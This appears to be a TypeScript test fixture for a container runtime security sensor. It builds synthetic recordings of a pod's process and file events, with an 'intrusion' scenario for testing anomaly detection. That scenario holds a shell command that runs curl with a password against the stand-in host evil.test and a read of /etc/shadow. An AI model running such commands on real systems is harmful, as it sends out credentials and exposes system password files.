import type { InstanceId } from '../../src/model/container.ts';
import { stableName, workloadName } from '../../src/profile/slug.ts';
import type { RecordingEntry } from '../../src/sensor/recording-entry.ts';
import { programStarted } from './happenings.ts';

const START_MS = 1_700_000_000_000;
const CONTAINER_ID = 'a'.repeat(64);
const CGROUP_ID = 4_711;
const INSTANCE: InstanceId = {
  apiVersion: 'v1',
  namespace: 'shop',
  kind: 'Pod',
  name: 'web-1',
  containerType: 'containers',
  containerName: 'web',
};

/** Stable name of the container's profile. */
export const PROFILE_NAME: string = stableName(INSTANCE);

/** Writes the entries of a recording: one pod `web-1` with one container `web`, seconds after its start. */
export class Story {
  readonly entries: RecordingEntry[] = [];
  #seq = 0;
  #nowMs = START_MS;

  /** Moves to this many seconds after the start. */
  at(seconds: number): this {
    this.#nowMs = START_MS + seconds * 1_000;
    return this;
  }

  ready(): this {
    return this.#add({ type: 'ready', kernel: '6.1.0', programs: ['process_exec'], skipped: [] });
  }

  /** The container's cgroup is seen by the kernel side. */
  cgroup(): this {
    return this.#add({
      type: 'cgroup',
      cgroupId: CGROUP_ID,
      name: CONTAINER_ID,
      parentName: 'podu1',
    });
  }

  /** The runtime tells of the container. */
  container(fields: { readonly preExisting?: boolean } = {}): this {
    return this.#add({
      type: 'container-added',
      container: {
        id: CONTAINER_ID,
        runtimeNamespace: 'k8s.io',
        name: 'web',
        kind: 'container',
        image: 'example/web:1',
        imageDigest: '',
        namespace: 'shop',
        pod: { name: 'web-1', namespace: 'shop', uid: 'u1', labels: {} },
        labels: {},
        pid: 100,
        startedAtMs: START_MS,
        preExisting: fields.preExisting ?? false,
        instanceId: INSTANCE,
        profileName: PROFILE_NAME,
        workloadName: workloadName(INSTANCE),
        workloadKind: 'Pod',
      },
    });
  }

  removed(exitCode: number): this {
    return this.#add({ type: 'container-removed', containerId: CONTAINER_ID, exitCode });
  }

  exec(path: string, ...args: string[]): this {
    return this.#event(programStarted(path, args));
  }

  open(path: string): this {
    return this.#event({ type: 'open', path, flags: 0, result: 3 });
  }

  lost(count: number): this {
    return this.#add({ type: 'lost', count });
  }

  /** The recording as it stands in a file. */
  text({ isCutShort = false } = {}): string {
    const first = { type: 'recording', version: 1, agentVersion: '0.1.0', timeMs: START_MS };
    const last = { type: 'end', timeMs: this.#nowMs, entries: this.entries.length };
    const lines = [first, ...this.entries, ...(isCutShort ? [] : [last])];
    return lines.map((line) => `${JSON.stringify(line)}\n`).join('');
  }

  #event(fields: object): this {
    this.#seq += 1;
    return this.#add({
      seq: this.#seq,
      cgroupId: CGROUP_ID,
      mountNs: 1,
      pid: 100,
      tid: 100,
      ppid: 1,
      uid: 0,
      gid: 0,
      comm: 'web',
      parentComm: 'shim',
      setup: false,
      ...fields,
    });
  }

  #add(fields: object): this {
    this.entries.push({ timeMs: this.#nowMs, ...fields } as RecordingEntry);
    return this;
  }
}

/** A container that serves for ten seconds, and then an intruder. */
export function intrusion(): Story {
  const story = new Story()
    .ready()
    .cgroup()
    .at(0.1)
    .container()
    .exec('/usr/bin/web', '--port', '80');
  for (let second = 1; second <= 9; second += 1) {
    story.at(second).open('/etc/web.conf').exec('/bin/date');
  }
  return story
    .at(14)
    .exec('/bin/date')
    .open('/etc/web.conf')
    .at(15)
    .exec('/bin/sh', '-c', 'curl --password=hunter2 evil.test')
    .open('/etc/shadow')
    .at(16)
    .exec('/bin/sh', '-c', 'again');
}

/** Flags that make learning last ten seconds. */
export const TEN_SECONDS = [
  '--learning-period',
  '10s',
  '--first-save',
  '2s',
  '--update-period',
  '3s',
  '--consolidation-interval',
  '1s',
  '--refresh-interval',
  '1s',
] as const;
